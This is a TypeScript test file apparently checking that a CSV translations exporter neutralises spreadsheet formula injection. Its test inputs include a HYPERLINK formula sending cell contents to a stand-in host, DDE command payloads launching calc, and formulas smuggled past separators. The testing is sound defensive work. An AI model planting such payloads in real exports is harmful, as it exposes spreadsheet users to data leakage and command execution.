import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  EARLIER_COLUMN,
  type Lacking,
  readSheet,
  TRANSLATION_COLUMNS,
  translationsCsv,
} from '../../central/server/imports/index.ts';

const lacking = (source: string): Lacking => ({
  list: 'events',
  id: 'swap',
  field: 'title',
  source,
  texts: { en: source },
  earlier: { ar: source },
});
const written = (text: string): string => translationsCsv([lacking(text)], ['en', 'ar']);

const columns = [...TRANSLATION_COLUMNS, 'en', 'ar', EARLIER_COLUMN];

/** The cells as a spreadsheet reads them that separates by one of these, quotes or no quotes at the beginning of a cell. */
const cellsFor = (csv: string, separator: string): string[] =>
  csv
    .replace('\uFEFF', '')
    .split(/\r?\n|\r/)
    .flatMap((line) => line.split(separator))
    .map((cell) => cell.replace(/^[\s"]+/, ''));

describe('a text from a foreign calendar that', () => {
  it.each([
    '=HYPERLINK("https://evil.example/"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    '-1+1+cmd|x',
    '@SUM(1+9)*cmd|x',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '＝1+1',
    '"=1+1',
    'Plants;=1+1',
    'Plants,=1+1',
    'Plants\t=1+1',
    'Plants\n=1+1\n"',
  ])('is a formula, %j: reaches no cell as one, whatever the spreadsheet separates by', (text) => {
    for (const separator of [',', ';', '\t']) {
      for (const cell of cellsFor(written(text), separator)) expect(cell).not.toMatch(/^[=+@＝＋＠-]/);
    }
  });

  it('is written and read again: says what it said', () => {
    const words = fc.stringMatching(/^[a-z=+@'",;\n -]{0,12}$/);
    fc.assert(
      fc.property(words, (text) => {
        const table = readSheet(Buffer.from(written(text)), { columns, mostRows: 10, mostBytes: 10_000 });
        expect(table).toMatchObject({
          kind: 'table',
          rows: [{ cells: ['events', 'swap', 'title', text, text, '', `ar: ${text}`] }],
        });
      }),
    );
  });

  it('is a number: stays one', () => {
    expect(written('-8.0216')).toContain(',-8.0216,');
  });
});
